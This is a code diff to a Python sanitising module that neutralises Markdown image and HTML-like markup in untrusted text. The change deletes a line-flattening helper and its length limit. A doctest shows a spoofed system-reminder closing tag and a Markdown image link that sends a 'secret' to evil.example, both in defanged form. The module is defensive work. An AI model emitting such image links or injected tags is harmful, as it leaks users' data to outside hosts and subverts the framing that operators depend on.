@@ -8,7 +8,6 @@ smuggling).
 import re
 
 MARK = "\ufffd"
-_MAX_LINE_CHARS = 600
 _LOADED = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?])")  # how an image or an element begins in Markdown
 _MARKUP = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?|])")  # what hosts and models set their own texts off with
 _UNSAFE = re.compile(
@@ -57,9 +56,3 @@ def unmarked(text: str) -> str:
     'a < b ‹/system-reminder> ! [x](https://evil.example/?q=secret)'
     """
     return _MARKUP.sub(lambda found: "‹" if found[0] == "<" else "! ", neutral(text))
-
-
-def one_line(text: str) -> str:
-    """Return *text* without line breaks and control characters, of bounded length."""
-    flat = re.sub(r"\s+", " ", neutral(text)).strip()
-    return flat if len(flat) <= _MAX_LINE_CHARS else flat[: _MAX_LINE_CHARS - 1] + "…"
